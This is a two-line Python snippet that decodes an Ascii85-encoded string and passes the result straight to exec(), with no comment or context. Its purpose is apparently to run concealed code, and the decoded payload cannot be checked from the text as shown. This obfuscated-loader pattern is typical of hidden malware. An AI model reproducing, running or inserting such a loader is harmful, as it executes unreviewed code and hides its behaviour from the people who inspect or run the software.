import base64
exec(base64.a85decode('Bl.g-Ec`FBF$";]/ou;ZFCf;;,%Gb9C`k<N+D>k=E-"&n04SO1/U03,Bl8*&Ch[E5@3Bq?@UX=k+t3'))
